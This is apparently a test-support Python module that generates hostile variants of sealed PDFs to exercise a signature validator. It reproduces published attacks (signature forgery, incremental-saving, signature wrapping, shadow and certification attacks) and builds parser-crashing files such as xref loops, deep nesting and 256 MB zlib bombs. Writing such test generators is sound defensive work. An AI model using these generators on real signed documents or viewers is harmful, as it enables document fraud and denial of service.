"""Attack generators: hostile variants of a document we sealed, built the way the
published attacks build them (RUB "PDF insecurity" research: universal signature
forgery, incremental saving, signature wrapping, shadow and certification attacks).

Every generator takes the bytes of a sealed PDF (shadow attacks also a preparation step
before sealing) and returns the manipulated bytes. They write PDF syntax directly where
the attack needs bytes no honest writer produces, and use pyHanko's incremental writer
where the attack is an ordinary-looking update.
"""

from __future__ import annotations

import dataclasses
import io
import re
import zlib

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields

RED_BOX = b"q 1 0 0 rg 100 400 300 120 re f Q"  # what the attacker wants seen
WHITE_BOX = b"q 1 1 1 rg 90 390 320 140 re f Q"  # an overlay hiding it


# -- reading the sealed file ---------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class SignatureLayout:
    """Where a signature's pieces sit in the file."""

    byte_range: tuple[int, int, int, int]
    contents: tuple[int, int]  # the hex string, '<' to '>' inclusive
    byte_range_text: tuple[int, int]  # "[ ... ]" and the padding after it
    cms_hex_digits: int  # hex digits of the CMS itself, without the zero padding


def locate_signature(pdf: bytes, index: int = 0) -> SignatureLayout:
    """The layout of the `index`-th signature in revision order (0: the seal)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    signature = reader.embedded_signatures[index]
    a, b, c, d = (int(v) for v in signature.byte_range)
    match = re.compile(rb"/ByteRange\s*(\[[^\]]*\]\s*)").search(pdf, c)
    assert match is not None, "no /ByteRange after the signature's /Contents"
    return SignatureLayout(
        byte_range=(a, b, c, d),
        contents=(b, c),
        byte_range_text=(match.start(1), match.end(1)),
        cms_hex_digits=2 * _der_length(signature.pkcs7_content),
    )


def _der_length(der: bytes) -> int:
    """The length of the DER element at the start of `der`, header included."""
    first = der[1]
    if first < 0x80:
        return 2 + first
    count = first & 0x7F
    return 2 + count + int.from_bytes(der[2 : 2 + count], "big")


def _last_trailer(pdf: bytes) -> tuple[generic.DictionaryObject, int, int]:
    """(trailer of the last revision, its startxref, the number of objects /Size)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    trailer = reader.trailer.flatten()
    return trailer, reader.last_startxref, int(trailer["/Size"])


def _replace(pdf: bytes, start: int, end: int, text: bytes) -> bytes:
    """`pdf` with [start, end) replaced by `text`, padded with spaces to the same length."""
    assert len(text) <= end - start, "the replacement does not fit"
    return pdf[:start] + text.ljust(end - start, b" ") + pdf[end:]


def _page_content_ref(pdf: bytes, page: int = 0) -> generic.Reference:
    """The first content stream of a page (pyHanko's stamper makes /Contents an array)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page_ref, _ = reader.find_page_for_modification(page)
    contents = page_ref.get_object().raw_get("/Contents")
    resolved = (
        contents.get_object()
        if isinstance(contents, generic.IndirectObject)
        else contents
    )
    if isinstance(resolved, generic.ArrayObject):
        return resolved.raw_get(0).reference
    return contents.reference


def _stream(idnum: int, content: bytes, extra: bytes = b"") -> bytes:
    return b"%d 0 obj\n<< /Length %d %s>>\nstream\n%s\nendstream\nendobj\n" % (
        idnum,
        len(content),
        extra,
        content,
    )


def append_revision(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    trailer_changes: dict[str, bytes] | None = None,
    offset_error: int = 0,
    write_xref: bool = True,
    freed: tuple[int, ...] = (),
) -> bytes:
    """Append an incremental update by hand: `objects` maps object numbers to their
    full "N 0 obj ... endobj" text. `offset_error` shifts every xref offset (the
    wrong-offsets variant); `write_xref=False` leaves xref and trailer out; `freed`
    marks objects as deleted (next generation 0, as Acrobat writes it)."""
    trailer, prev, size = _last_trailer(pdf)
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int] = {}
    for idnum, text in sorted(objects.items()):
        offsets[idnum] = len(out)
        out += text
    if not write_xref:
        return bytes(out)
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for idnum, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (idnum, offset + offset_error)
    for idnum in freed:
        out += b"%d 1\n0000000000 00000 f \n" % idnum
    entries = {
        b"/Size": str(max(size, max(offsets, default=0) + 1)).encode(),
        b"/Root": b"%d 0 R" % trailer.raw_get("/Root").idnum,
        b"/Prev": str(prev).encode(),
    }
    if "/Info" in trailer:
        entries[b"/Info"] = b"%d 0 R" % trailer.raw_get("/Info").idnum
    entries.update(trailer_changes or {})
    out += (
        b"trailer\n<< " + b" ".join(k + b" " + v for k, v in entries.items()) + b" >>\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# -- universal signature forgery -------------------------------------------------------------


def usf_byte_range_zeroed(pdf: bytes) -> bytes:
    """/ByteRange [0 0 0 0], same length (pdf-insecurity USF variant)."""
    layout = locate_signature(pdf)
    return _replace(pdf, *layout.byte_range_text, b"[0 0 0 0]")


def usf_byte_range_elsewhere(pdf: bytes) -> bytes:
    """/ByteRange covering only the first bytes of the file, twice."""
    layout = locate_signature(pdf)
    return _replace(pdf, *layout.byte_range_text, b"[0 1000 1000 1000]")


def usf_byte_range_null(pdf: bytes) -> bytes:
    layout = locate_signature(pdf)
    return _replace(pdf, *layout.byte_range_text, b"null")


def usf_byte_range_removed(pdf: bytes) -> bytes:
    """The /ByteRange entry blanked out (key and value)."""
    layout = locate_signature(pdf)
    key = pdf.rindex(b"/ByteRange", 0, layout.byte_range_text[0])
    return _replace(pdf, key, layout.byte_range_text[1], b"")


def usf_contents_zeroed(pdf: bytes) -> bytes:
    """Every hex digit of /Contents set to 0: no CMS at all, same length."""
    start, end = locate_signature(pdf).contents
    return pdf[:start] + b"<" + b"0" * (end - start - 2) + b">" + pdf[end:]


def usf_contents_null(pdf: bytes) -> bytes:
    """/Contents null: only the unsigned gap changes."""
    start, end = locate_signature(pdf).contents
    return _replace(pdf, start, end, b"null")


def usf_contents_removed(pdf: bytes) -> bytes:
    """The /Contents entry blanked out (key and value)."""
    start, end = locate_signature(pdf).contents
    key = pdf.rindex(b"/Contents", 0, start)
    return _replace(pdf, key, end, b"")


# -- incremental saving ---------------------------------------------------------------------


def isa_page_content(pdf: bytes) -> bytes:
    """A proper incremental update that draws over page 1."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    writer.add_stream_to_page(
        0, writer.add_object(generic.StreamObject(stream_data=RED_BOX))
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def isa_without_xref(pdf: bytes) -> bytes:
    """Page 1's content stream redefined in appended bytes with no xref or trailer:
    only a viewer that repairs the file would use it."""
    ref = _page_content_ref(pdf)
    return append_revision(
        pdf, {ref.idnum: _stream(ref.idnum, RED_BOX)}, write_xref=False
    )


def isa_wrong_offsets(pdf: bytes) -> bytes:
    """An update whose xref points a few bytes off its objects."""
    ref = _page_content_ref(pdf)
    return append_revision(
        pdf, {ref.idnum: _stream(ref.idnum, RED_BOX)}, offset_error=7
    )


def isa_free_object(pdf: bytes) -> bytes:
    """An update that only deletes page 1's content stream (the free-entry variant of
    hiding content)."""
    return append_revision(pdf, {}, freed=(_page_content_ref(pdf).idnum,))


def isa_startxref_into_signed_range(pdf: bytes) -> bytes:
    """A complete update (objects, xref, trailer) whose final startxref points back into
    the signed range, at the sealed revision's xref: a reader that follows startxref
    sees the sealed document, one that scans for the last trailer sees the attack."""
    _, sealed_startxref, _ = _last_trailer(pdf)
    attacked = isa_page_content(pdf)
    end = attacked.rindex(b"startxref")
    return attacked[:end] + b"startxref\n%d\n%%%%EOF\n" % sealed_startxref


def hybrid_xref_update(pdf: bytes) -> bytes:
    """An update with both an xref table and, via /XRefStm, an xref stream: PDF 1.4
    readers see one, later readers both, so the two can disagree about objects."""
    trailer, prev, size = _last_trailer(pdf)
    out = bytearray(pdf)
    stream_at = len(out)
    row = b"\x01" + stream_at.to_bytes(4, "big") + b"\x00"
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Length %d >>\nstream\n"
        % (size, size + 1, size, len(row))
        + row
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \ntrailer\n"
    out += b"<< /Size %d /Root %d 0 R /Prev %d /XRefStm %d >>\n" % (
        size + 1,
        trailer.raw_get("/Root").idnum,
        prev,
        stream_at,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# -- signature wrapping -------------------------------------------------------------------------


def swa_objects_in_gap(pdf: bytes) -> bytes:
    """Signature wrapping: the /Contents hex string is closed right after the real CMS
    and the rest of the unsigned gap becomes a string entry of the signature dictionary
    that holds a complete attacker object; an appended xref points into that string.
    The signed bytes and /ByteRange are unchanged."""
    layout = locate_signature(pdf)
    start, end = layout.contents
    real = pdf[start + 1 : start + 1 + layout.cms_hex_digits]
    ref = _page_content_ref(pdf)
    head = b"<" + real + b"> /YinxinPadding (\n"
    gap = head + _stream(ref.idnum, RED_BOX) + b")"
    assert len(gap) <= end - start, "no room in the signature's padding"
    wrapped = pdf[:start] + gap.ljust(end - start, b" ") + pdf[end:]
    object_at = start + len(head)
    trailer, prev, size = _last_trailer(wrapped)
    xref_at = len(wrapped)
    update = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (
        ref.idnum,
        object_at,
    )
    update += (
        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            size,
            trailer.raw_get("/Root").idnum,
            prev,
            xref_at,
        )
    )
    return wrapped + update


# -- shadow attacks (the attacker prepares the document before it is sealed) -------------------


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def shadow_hide_prepare(pdf: bytes) -> bytes:
    """Page 1 gets the attacker's red box and, drawn over it, a white overlay."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    writer.add_stream_to_page(
        0, writer.add_object(generic.StreamObject(stream_data=RED_BOX))
    )
    writer.add_stream_to_page(
        0, writer.add_object(generic.StreamObject(stream_data=WHITE_BOX))
    )
    return _write(writer)


def shadow_hide_attack(sealed: bytes) -> bytes:
    """After sealing: the overlay object redefined as an empty stream, nothing else."""
    reader = PdfFileReader(io.BytesIO(sealed), strict=False)
    page_ref, _ = reader.find_page_for_modification(0)
    contents = page_ref.get_object()["/Contents"]
    overlay = next(
        ref.reference
        for ref in (contents.raw_get(i) for i in range(len(contents)))
        if ref.get_object().data == WHITE_BOX
    )
    return append_revision(sealed, {overlay.idnum: _stream(overlay.idnum, b"")})


def shadow_replace_prepare(pdf: bytes) -> bytes:
    """An unused content stream with the attacker's drawing, referenced from nowhere
    that is displayed (kept alive in the catalog under a private key)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    unused = writer.add_object(generic.StreamObject(stream_data=RED_BOX))
    writer.root[pdf_name("/YinxinTestUnused")] = unused
    writer.update_root()
    return _write(writer)


def shadow_replace_attack(sealed: bytes) -> bytes:
    """After sealing: page 1's contents point at the prepared stream."""
    writer = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    unused = writer.root.raw_get("/YinxinTestUnused")
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    page[pdf_name("/Contents")] = generic.ArrayObject([unused])
    writer.update_container(page)
    return _write(writer)


def shadow_hide_and_replace_prepare(pdf: bytes) -> bytes:
    """A complete second catalog and page tree, unused, sharing the form (so the seal
    still shows in it); the form is created now so the seal will reuse it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    form = writer.add_object(
        generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject()})
    )
    writer.root[pdf_name("/AcroForm")] = form
    content = writer.add_object(generic.StreamObject(stream_data=RED_BOX))
    pages = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Pages"),
            pdf_name("/Count"): generic.NumberObject(1),
        }
    )
    pages_ref = writer.add_object(pages)
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): pages_ref,
            pdf_name("/MediaBox"): generic.ArrayObject(
                generic.NumberObject(v) for v in (0, 0, 595, 842)
            ),
            pdf_name("/Contents"): content,
        }
    )
    pages[pdf_name("/Kids")] = generic.ArrayObject([writer.add_object(page)])
    shadow_root = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Catalog"),
                pdf_name("/Pages"): pages_ref,
                pdf_name("/AcroForm"): form,
            }
        )
    )
    writer.root[pdf_name("/YinxinTestShadowRoot")] = shadow_root
    writer.update_root()
    return _write(writer)


def shadow_hide_and_replace_attack(sealed: bytes) -> bytes:
    """After sealing: only the trailer's /Root changes, to the prepared catalog."""
    reader = PdfFileReader(io.BytesIO(sealed), strict=False)
    shadow = reader.root.raw_get("/YinxinTestShadowRoot")
    return append_revision(
        sealed, {}, trailer_changes={b"/Root": b"%d 0 R" % shadow.idnum}
    )


# -- certification attacks --------------------------------------------------------------------


def _appearance(
    writer: IncrementalPdfFileWriter, width: float, height: float
) -> generic.IndirectObject:
    return writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (0, 0, width, height)
                ),
            },
            stream_data=b"q 1 0 0 rg 0 0 %d %d re f Q" % (width, height),
        )
    )


def eaa_annotation(pdf: bytes, subtype: str = "/FreeText") -> bytes:
    """Evil annotation: a FreeText (or Stamp) annotation whose appearance covers page 1."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject(
                generic.NumberObject(v) for v in (50, 300, 550, 700)
            ),
            pdf_name("/Contents"): generic.TextStringObject("Amount: 1,000,000"),
            pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _appearance(writer, 500, 400)}
            ),
        }
    )
    annots = page.get("/Annots")
    existing = list(annots) if annots is not None else []
    page[pdf_name("/Annots")] = generic.ArrayObject(
        [*existing, writer.add_object(annotation)]
    )
    writer.update_container(page)
    return _write(writer)


def ssa_unsigned_field(pdf: bytes) -> bytes:
    """Sneaky signature: a new, unsigned signature field whose widget draws over page 1."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    fields.append_signature_field(
        writer, fields.SigFieldSpec("Sneaky", on_page=0, box=(50, 300, 550, 700))
    )
    for _, _, field_ref in fields.enumerate_sig_fields(writer, with_name="Sneaky"):
        field = field_ref.get_object()
        field[pdf_name("/AP")] = generic.DictionaryObject(
            {pdf_name("/N"): _appearance(writer, 500, 400)}
        )
        writer.update_container(field)
    return _write(writer)


# -- byte-level damage ---------------------------------------------------------------------------


def flip_signed_byte(pdf: bytes) -> bytes:
    """One byte inside the first signed block changed."""
    a, b, _, _ = locate_signature(pdf).byte_range
    position = (a + b) // 2
    return pdf[:position] + bytes([pdf[position] ^ 0x01]) + pdf[position + 1 :]


def info_only_update(pdf: bytes) -> bytes:
    """An update that changes only /Info (the title): no page, form or annotation."""
    _, _, size = _last_trailer(pdf)
    info = (
        b"%d 0 obj\n<< /Title (Changed after sealing) /Producer (someone else) >>\nendobj\n"
        % size
    )
    return append_revision(
        pdf, {size: info}, trailer_changes={b"/Info": b"%d 0 R" % size}
    )


# -- classic hostile files ------------------------------------------------------------------------


def _classic(objects: list[bytes], root: int = 1, *, prev_loop: bool = False) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    prev = b" /Prev %d" % xref_at if prev_loop else b""
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        prev,
        xref_at,
    )
    return bytes(out)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"


def deep_nesting(depth: int = 50_000) -> bytes:
    return _classic([_CATALOG, _PAGES, _PAGE, b"[" * depth + b"]" * depth])


def huge_length() -> bytes:
    return _classic(
        [_CATALOG, _PAGES, _PAGE, b"<< /Length 99999999999 >>\nstream\nq Q\nendstream"]
    )


def xref_loop() -> bytes:
    """A trailer whose /Prev points at its own xref section."""
    return _classic(
        [_CATALOG, _PAGES, _PAGE, b"<< /Length 3 >>\nstream\nq Q\nendstream"],
        prev_loop=True,
    )


def self_referencing_object_stream() -> bytes:
    """The catalog lives in object stream 5, and the xref stream says object 5 itself
    lives in object stream 5 (which also /Extends itself)."""
    body = b"1 0 "
    stream_data = body + _CATALOG
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Extends 5 0 R /Length %d >>\nstream\n%s\nendstream"
        % (
            len(body),
            len(stream_data),
            stream_data,
        )
    )
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, obj in (
        (2, _PAGES),
        (3, _PAGE),
        (4, b"<< /Length 3 >>\nstream\nq Q\nendstream"),
        (5, objstm),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref_at = len(out)
    rows = [b"\x00\x00\x00\x00\xff", b"\x02\x00\x00\x05\x00"]
    rows += [b"\x01" + offsets[n].to_bytes(3, "big") + b"\x00" for n in (2, 3, 4)]
    rows += [b"\x02\x00\x00\x05\x00", b"\x01" + xref_at.to_bytes(3, "big") + b"\x00"]
    data = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return bytes(out)


def huge_xref_subsection() -> bytes:
    """An xref subsection claiming a hundred million entries."""
    document = _classic(
        [_CATALOG, _PAGES, _PAGE, b"<< /Length 3 >>\nstream\nq Q\nendstream"]
    )
    return document.replace(b"xref\n0 5\n", b"xref\n0 100000000\n")


def many_revisions(sealed: bytes, count: int) -> bytes:
    """`count` empty incremental updates after the seal."""
    trailer, prev, size = _last_trailer(sealed)
    root = trailer.raw_get("/Root").idnum
    out = bytearray(sealed)
    for _ in range(count):
        xref_at = len(out)
        out += (
            b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n"
            % (size, root, prev)
        )
        out += b"startxref\n%d\n%%%%EOF\n" % xref_at
        prev = xref_at
    return bytes(out)


def zlib_bomb_content(size: int = 256 * 1024 * 1024) -> bytes:
    """A page content stream that inflates to `size` bytes."""
    compressor = zlib.compressobj(9)
    chunk = b"\x00" * (1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(size // len(chunk))]
    bomb = b"".join(parts) + compressor.flush()
    stream = (
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb)
        + bomb
        + b"\nendstream"
    )
    return _classic([_CATALOG, _PAGES, _PAGE, stream])


def zlib_bomb_object_stream(size: int = 256 * 1024 * 1024) -> bytes:
    """The catalog itself inside an object stream that inflates to `size` bytes, so
    opening the document has to decode it."""
    compressor = zlib.compressobj(9)
    body = b"1 0 "
    first = compressor.compress(body + _CATALOG + b" ")
    chunk = b" " * (1024 * 1024)
    bomb = (
        first
        + b"".join(compressor.compress(chunk) for _ in range(size // len(chunk)))
        + compressor.flush()
    )
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (len(body), len(bomb))
        + bomb
        + b"\nendstream"
    )
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, obj in (
        (2, _PAGES),
        (3, _PAGE),
        (4, b"<< /Length 3 >>\nstream\nq Q\nendstream"),
        (5, objstm),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref_at = len(out)
    rows = [b"\x00\x00\x00\xff\xff", b"\x02\x00\x00\x05\x00"]
    rows += [
        b"\x01" + offsets[n].to_bytes(4, "big")[1:] + b"\x00" for n in (2, 3, 4, 5)
    ]
    rows.append(b"\x01" + xref_at.to_bytes(4, "big")[1:] + b"\x00")
    data = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return bytes(out)


def hostile_update(sealed: bytes, body: bytes) -> bytes:
    """A sealed document with an appended revision redefining page 1's content as `body`
    (a whole "<< ... >> stream ... endstream" or any object text)."""
    ref = _page_content_ref(sealed)
    return append_revision(
        sealed, {ref.idnum: b"%d 0 obj\n" % ref.idnum + body + b"\nendobj\n"}
    )
